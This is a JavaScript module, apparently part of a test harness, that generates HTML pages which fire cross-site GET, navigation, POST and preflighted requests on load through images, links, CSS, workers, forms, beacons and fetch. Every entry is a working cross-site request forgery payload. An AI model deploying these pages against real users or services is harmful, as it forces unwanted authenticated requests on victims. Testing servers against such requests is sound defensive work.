// Attacks by web pages. Each attack is HTML that sends a request when it is loaded, without a
// click.

const script = (text) => `<script>${text}</script>`;
const style = (text, rest = "") => `<style>${text}</style>${rest}`;
const form = (action, method, type, field, value) => `<iframe name="${field}-frame"></iframe><form id="${field}" target="${field}-frame" method="${method}" enctype="${type}" action="${action}">
  <input name='${value}' value=''></form>${script(`document.getElementById("${field}").submit()`)}`;
const rules = (action, url) => `<script type="speculationrules">${JSON.stringify({ [action]: [{ source: "list", urls: [url], eagerness: "immediate" }] })}</script>`;

/** Attacks that GET a URL from within a page. */
export const gets = {
  speculation_prefetch: (url) => rules("prefetch", url),
  speculation_prerender: (url) => rules("prerender", url),
  link_prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  link_preload_fetch: (url) => `<link rel="preload" as="fetch" crossorigin href="${url}">`,
  link_preload_image: (url) => `<link rel="preload" as="image" href="${url}">`,
  link_preload_script: (url) => `<link rel="preload" as="script" href="${url}">`,
  link_modulepreload: (url) => `<link rel="modulepreload" href="${url}">`,
  link_stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  img: (url) => `<img src="${url}">`,
  img_without_referrer: (url) => `<img referrerpolicy="no-referrer" src="${url}">`,
  img_cors: (url) => `<img crossorigin="use-credentials" src="${url}">`,
  img_srcset: (url) => `<img srcset="${url} 1x">`,
  picture: (url) => `<picture><source srcset="${url}"><img></picture>`,
  svg_image: (url) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
  input_image: (url) => `<input type="image" src="${url}">`,
  script: (url) => `<script src="${url}"></script>`,
  script_module: (url) => `<script type="module" src="${url}"></script>`,
  import: (url) => script(`import("${url}").catch(() => {})`),
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  iframe_sandboxed: (url) => `<iframe sandbox src="${url}"></iframe>`,
  iframe_location: (url) => `<iframe srcdoc="<script>location.href = '${url}'</script>"></iframe>`,
  iframe_refresh: (url) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${url}'>"></iframe>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  video: (url) => `<video preload="auto" src="${url}"></video>`,
  audio: (url) => `<audio preload="auto" src="${url}"></audio>`,
  poster: (url) => `<video poster="${url}"></video>`,
  track: (url) => `<video crossorigin src="/silence"><track default kind="captions" src="${url}"></video>${script("document.querySelector('track').track.mode = 'showing'")}`,
  css_url: (url) => style(`#css_url { background: url("${url}") }`, '<p id="css_url">x</p>'),
  css_import: (url) => style(`@import "${url}";`),
  css_font: (url) => style(`@font-face { font-family: attack; src: url("${url}") } #css_font { font-family: attack }`, '<p id="css_font">x</p>'),
  css_mask: (url) => style(`#css_mask { mask-image: url("${url}") }`, '<p id="css_mask">x</p>'),
  form_get: (url) => `<iframe name="form_get-frame"></iframe><form id="form_get" target="form_get-frame" action="${url.split("?")[0]}"><input name="ttr" value="1h"></form>${script('document.getElementById("form_get").submit()')}`,
  fetch_no_cors: (url) => script(`fetch("${url}", { mode: "no-cors" }).catch(() => {})`),
  fetch_cors: (url) => script(`fetch("${url}", { credentials: "include" }).catch(() => {})`),
  fetch_keepalive: (url) => script(`fetch("${url}", { mode: "no-cors", keepalive: true, referrerPolicy: "no-referrer" }).catch(() => {})`),
  xhr: (url) => script(`{ const asked = new XMLHttpRequest(); asked.open("GET", "${url}"); asked.send(); }`),
  event_source: (url) => script(`new EventSource("${url}")`),
  web_socket: (url) => script(`new WebSocket("${url.replace("http", "ws")}")`),
  worker_fetch: (url) => script(`new Worker(URL.createObjectURL(new Blob(['fetch("${url}", { mode: "no-cors" }).catch(() => {})'])))`),
  worker_import: (url) => script(`new Worker(URL.createObjectURL(new Blob(['importScripts("${url}")'])))`),
  shared_worker: (url) => script(`new SharedWorker("data:text/javascript," + encodeURIComponent('fetch("${url}", { mode: "no-cors" }).catch(() => {})'))`),
  service_worker: (url) => script(`navigator.serviceWorker.register("/worker.js?" + encodeURIComponent("${url}"))`),
  worklet: (url) => script(`CSS.paintWorklet.addModule("${url}").catch(() => {})`),
  redirected: (url) => `<img src="/to?${encodeURIComponent(url)}">`,
  window_open: (url) => script(`open("${url}")`),
  clicked_by_script: (url) => `<a id="clicked" target="_blank" href="${url}">x</a>${script('document.getElementById("clicked").click()')}`,
};

/** Attacks that GET a URL by navigating to it, so that each needs its own page. */
export const navigations = {
  location: (url) => script(`location.href = "${url}"`),
  location_replace: (url) => script(`location.replace("${url}")`),
  meta_refresh: (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  form_get_top: (url) => `<form id="top" action="${url.split("?")[0]}"></form>${script('document.getElementById("top").submit()')}`,
};

const blob = (body, type) => `new Blob(['${body}'], { type: "${type}" })`;

/** Attacks that POST a body, as JSON or as a form encodes it. */
export const posts = {
  post_form_text: (url, body) => form(url, "post", "text/plain", "post_form_text", `${body.slice(0, -1)},"x":"`),
  post_form_urlencoded: (url, body) => form(url, "post", "application/x-www-form-urlencoded", "post_form_urlencoded", body),
  post_form_multipart: (url, body) => form(url, "post", "multipart/form-data", "post_form_multipart", body),
  post_form_redirected: (url, body) => form(`/to?${encodeURIComponent(url)}`, "post", "application/x-www-form-urlencoded", "post_form_redirected", body),
  post_beacon: (url, body) => script(`navigator.sendBeacon("${url}", '${body}')`),
  post_beacon_form: (url, body) => script(`navigator.sendBeacon("${url}", ${blob(body, "application/x-www-form-urlencoded")})`),
  post_fetch_no_cors: (url, body) => script(`fetch("${url}", { method: "POST", mode: "no-cors", body: '${body}' }).catch(() => {})`),
  post_fetch_untyped: (url, body) => script(`fetch("${url}", { method: "POST", mode: "no-cors", body: ${blob(body, "")} }).catch(() => {})`),
  post_fetch_cors: (url, body) => script(`fetch("${url}", { method: "POST", body: '${body}' }).catch(() => {})`),
  post_fetch_keepalive: (url, body) => script(`fetch("${url}", { method: "POST", mode: "no-cors", keepalive: true, body: '${body}' }).catch(() => {})`),
  post_xhr: (url, body) => script(`{ const asked = new XMLHttpRequest(); asked.open("POST", "${url}"); asked.send('${body}'); }`),
  post_ping: (url) => `<a id="post_ping" target="_blank" href="/empty" ping="${url}">x</a>${script('document.getElementById("post_ping").click()')}`,
};

/** Attacks that need a CORS preflight: the server must receive only the preflight. */
export const preflighted = {
  preflight_json: (url) => script(`fetch("${url}", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }).catch(() => {})`),
  preflight_delete: (url) => script(`fetch("${url}", { method: "DELETE" }).catch(() => {})`),
  preflight_beacon: (url) => script(`navigator.sendBeacon("${url}", ${blob("{}", "application/json")})`),
};
